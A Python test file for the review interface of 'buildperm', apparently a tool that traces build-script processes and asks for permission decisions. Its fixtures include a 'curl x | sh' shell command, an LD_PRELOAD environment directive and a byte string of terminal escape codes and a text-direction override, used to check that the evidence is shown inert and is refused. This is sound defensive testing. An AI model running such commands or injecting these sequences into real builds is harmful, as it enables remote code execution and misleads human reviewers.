"""The evidence beside a decision, driven by keys."""

from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING

from buildperm.policy.decision import Answer
from buildperm.policy.kinds import Kind
from buildperm.policy.proposal import Risk
from buildperm.presentation.proposal_evidence import (
    ProposalEvidence,
    SourceLine,
    proposal_evidence,
    run_evidence,
)
from buildperm.presentation.wording import TIMES
from buildperm.tracer.recording.event import (
    DirectivePrinted,
    Executed,
    RecordedProcess,
    Verdict,
)
from buildperm.tui.screens.evidence_screen import EvidenceScreen
from buildperm.tui.screens.inbox import InboxScreen
from buildperm.tui.widgets.evidence_pane import EvidencePane
from tests.presentation.trace_recordings import made_run
from tests.tui.proposals import access, proposal
from tests.tui.review_bench import ReviewBench

if TYPE_CHECKING:
    from buildperm.policy.proposal import Proposal

SIZE = (100, 30)
HOSTILE = b"\x1b[2J[red]\xe2\x80\xae"


class Source:
    """Knows about one script that ran a shell."""

    def __init__(self) -> None:
        self.asked: list[str] = []

    def of(self, asked: Proposal, /) -> ProposalEvidence:
        """Return the evidence."""
        self.asked.append(asked.id)
        ms = 1_000_000
        processes = (
            RecordedProcess(7, 0, b"/out/build", (b"/out/build",), 0, 90 * ms, 1 << 8),
            RecordedProcess(8, 7, b"/bin/sh", (b"sh", b"-c", HOSTILE), ms, 13 * ms, 9),
            RecordedProcess(9, 7, b"/bin/ls", (b"ls",), 14 * ms, 15 * ms, 0),
        )
        events = [
            Executed(ms, 7, b"/bin/sh", b"/bin/sh", (b"sh", b"-c", HOSTILE), 0, False, 3),
            Executed(2 * ms, 7, b"/bin/sh", b"/bin/sh", (b"sh", b"-c", b"curl x | sh"), 13, True),
        ]
        told = [
            DirectivePrinted(5, "rustc-link-lib", "z", Verdict.FREE),
            DirectivePrinted(6, "rustc-env", "LD_PRELOAD=/x", Verdict.FORBIDDEN),
        ]
        run = run_evidence(made_run(processes, [*events, *told]), events)
        line = SourceLine(
            "gen 0.1.0", "build.rs", Path("/w/build.rs"), 12, '  Command::new("sh")', '"sh"'
        )
        return proposal_evidence(asked, [run], asking=[line], searched='searched gen for `"sh"`.')

    def edit(self, asked: Proposal, chosen: int, answer: Answer, /) -> tuple[str, ...]:
        """Return a diff."""
        del asked
        return ("--- a/Cargo.toml", "+++ b/Cargo.toml", "@@ -1 +1 @@", f"+{answer} {chosen}")


def make() -> tuple[ReviewBench, Source]:
    """Return a bench over one proposal, and its source."""
    asked = proposal(
        "gen", "0.1.0", "run sh", Risk.HIGH, "a shell", [access(Kind.EXEC, "sh", count=4)]
    )
    source = Source()
    return ReviewBench([asked], evidence=source), source


async def opened(bench: ReviewBench, pilot: object) -> str:
    """Return the text of the body once the evidence has been read."""
    for _ in range(100):
        await pilot.pause(0.02)  # type: ignore[attr-defined]
        text = bench.text("#evidence-body")
        if "Reading" not in text:
            return text
    raise AssertionError(text)


async def test_i_opens_every_command_line_counted_and_inert() -> None:
    bench, _ = make()
    async with bench.app.run_test(size=SIZE) as pilot:
        await pilot.press("n", "i")
        text = await opened(bench, pilot)

        assert bench.is_at(EvidenceScreen)
        assert "Ran 2 command lines" in text
        assert "sh -c $'\\e[2J[red]\\xe2\\x80\\xae'" in text
        assert f"3{TIMES}" in text.partition("sh -c $")[0]
        assert "sh -c 'curl x | sh'" in text
        assert "refused by buildperm (EACCES)" in text


async def test_each_digit_shows_its_tab() -> None:
    bench, _ = make()
    async with bench.app.run_test(size=SIZE) as pilot:
        await pilot.press("n", "i")
        await opened(bench, pilot)
        seen = {}
        for key in "123456":
            await pilot.press(key)
            seen[key] = bench.text("#evidence-body")

        assert "▸ └" not in seen["1"]
        assert "exit 1" in seen["2"]
        assert "90 ms" in seen["2"]
        assert "├─ sh -c" in seen["2"]
        assert "killed by SIGKILL" in seen["2"]
        assert "0.001 run" in seen["3"]
        assert "build script" in seen["3"].splitlines()[1]
        assert 'Best effort: searched gen for `"sh"`. A match proves nothing.' in seen["4"]
        assert "build.rs:12" in seen["4"]
        assert 'Command::new("sh")' in seen["4"]
        assert seen["5"].index("LD_PRELOAD") < seen["5"].index("rustc-link-lib")
        assert "it can never be granted" in seen["5"]
        assert "+allow 0" in seen["6"]


async def test_tab_goes_round_and_a_click_chooses() -> None:
    bench, _ = make()
    async with bench.app.run_test(size=SIZE) as pilot:
        await pilot.press("n", "i", "shift+tab")
        pane = bench.app.screen.query_one(EvidencePane)
        assert pane.tab == 5
        await pilot.press("tab", "tab")
        assert pane.tab == 1

        await pilot.click("#evidence-tabs", offset=(27, 0))

        assert pane.tab == 2


async def test_escape_goes_back_and_the_source_was_asked_once() -> None:
    bench, source = make()
    async with bench.app.run_test(size=SIZE) as pilot:
        await pilot.press("n", "i")
        await opened(bench, pilot)
        await pilot.press("2", "3", "escape")

        assert bench.is_at(InboxScreen)
        assert len(source.asked) == 1


async def test_what_a_denied_proposal_would_write_is_the_denial() -> None:
    bench, _ = make()
    async with bench.app.run_test(size=SIZE) as pilot:
        await pilot.press("n", "d", "k", "j", "i", "6")
        text = await opened(bench, pilot)

        assert "If you deny it" in text
        assert "+deny 0" in text
